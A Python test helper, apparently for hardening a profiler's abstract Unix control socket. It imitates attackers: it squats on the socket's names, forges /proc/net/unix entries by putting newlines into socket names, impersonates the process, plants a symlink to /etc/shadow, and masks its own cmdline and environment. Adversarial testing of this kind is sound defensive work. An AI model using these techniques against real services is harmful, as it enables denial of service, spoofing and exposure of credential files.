# SPDX-License-Identifier: MIT
"""control_peer.py - what attackers of control sockets do: clients of a process's socket, and sockets that take its name.

    control_peer.py ask PID TEXT      send a request (TEXT has \\n), print the answer
    control_peer.py squat PID N       take names 0 to N-1 of the process's socket, let their queues of connections fill up
                                      and accept none; print "taken"; until killed
    control_peer.py forge PID N       give N sockets names that write lines about the process's socket into /proc/net/unix;
                                      print "taken"; until killed
    control_peer.py fake LIBRARY HOW [TEXT...]   be a process that has the library mapped, and answer at the name of its
                                      socket; print "taken"; until killed. HOW:
                                      silent: do not answer; drip: a byte every half a second;
                                      say: answer each request with TEXT (TEXT has \\n)
                                      map: map these files, too, then say the last TEXT
                                      fill: as map, and put a file, a link and a strange name into the folder of a request
                                      cover: as map, and map the first file over the arguments and the environment

PID is that of the process as it sees itself; the names are those of the network that this command runs in."""
import ctypes
import mmap
import os
import socket
import sys
import threading
import time


def start_time(pid):
    with open(f"/proc/{pid}/stat") as f:
        return f.read().rsplit(")", 1)[1].split()[19]


def inside(pid):
    """The PID as the process itself sees it."""
    with open(f"/proc/{pid}/status") as f:
        return next(line for line in f if line.startswith("NSpid:")).split()[-1]


def address(pid, number=0):
    return f"\0sxsprof/{inside(pid)}/{start_time(pid)}" + (f"/{number}" if number else "")


def ask(pid, text):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(address(pid))
    except ConnectionRefusedError:
        print("no socket")
        return
    s.settimeout(30)
    try:
        s.sendall(text.replace("\\n", "\n").encode())
    except BrokenPipeError:
        pass  # it has turned us away already; what it said is there
    got = b""
    while not got.endswith(b"\n\n"):
        more = s.recv(65536)
        if not more:
            break
        got += more
    print(got.decode(), end="")


def squat(pid, n):
    sockets = []
    for i in range(int(n)):
        s = socket.socket(socket.AF_UNIX)
        s.bind(address(pid, i))
        s.listen(0)
        sockets.append(s)
        while True:
            c = socket.socket(socket.AF_UNIX)
            c.setblocking(False)
            try:
                c.connect(address(pid, i))
            except BlockingIOError:
                break
            sockets.append(c)
    print("taken", flush=True)
    time.sleep(1000)


def forge(pid, n):
    name = "@" + address(pid)[1:]
    with open("/proc/net/unix") as f:
        inode = next(line.split()[6] for line in f if line.endswith(" " + name + "\n"))
    sockets = []
    for i in range(int(n)):
        s = socket.socket(socket.AF_UNIX)
        s.bind(f"\0{i}\n0: 00000002 00000000 00010000 0001 01 {inode} @sxsprof/{i}")
        s.listen(1)
        sockets.append(s)
    print("taken", flush=True)
    time.sleep(1000)


def fill(request):
    out = [line[4:] for line in request.split("\n") if line.startswith("out=")]
    for folder in (path + "/71" for path in out):
        os.mkdir(folder)
        os.symlink("/etc/shadow", folder + "/events")
        for name in ("passwd", "calls"):
            open(folder + "/" + name, "w").close()


def answer(c, how, text):
    try:
        while how == "drip":
            c.send(b"o")
            time.sleep(0.5)
        while how == "silent" or (request := c.recv(65536)):
            if how == "silent":
                time.sleep(1000)
            if how == "fill":
                fill(request.decode())
            c.sendall(text)
    except OSError:
        pass
    c.close()


def cover(path):
    """Has whoever reads /proc/PID/cmdline or /proc/PID/environ read this file."""
    with open("/proc/self/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    page = mmap.PAGESIZE
    first, end = int(fields[45]) // page * page, -(-int(fields[48]) // page) * page
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    fd = os.open(path, os.O_RDONLY)
    if libc.mmap(first, end - first, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_PRIVATE | 0x10, fd, 0) != first:  # MAP_FIXED
        sys.exit(os.strerror(ctypes.get_errno()))


def fake(library, how, *texts):
    maps = []
    for path in (library,) + (texts[:-1] if how in ("map", "cover", "fill") else ()):
        fd = os.open(path, os.O_RDONLY)
        prot = mmap.PROT_READ | (mmap.PROT_EXEC if path == library else 0)
        maps.append(mmap.mmap(fd, 0, mmap.MAP_PRIVATE, prot))
        os.close(fd)
    text = texts[-1].replace("\\n", "\n").encode() if texts else b""
    s = socket.socket(socket.AF_UNIX)
    s.bind(address(os.getpid()))
    s.listen(64)
    if how == "cover":
        cover(texts[0])
    print("taken", flush=True)
    while True:
        c, _ = s.accept()
        threading.Thread(target=answer, args=(c, how, text), daemon=True).start()


globals()[sys.argv[1]](*sys.argv[2:])
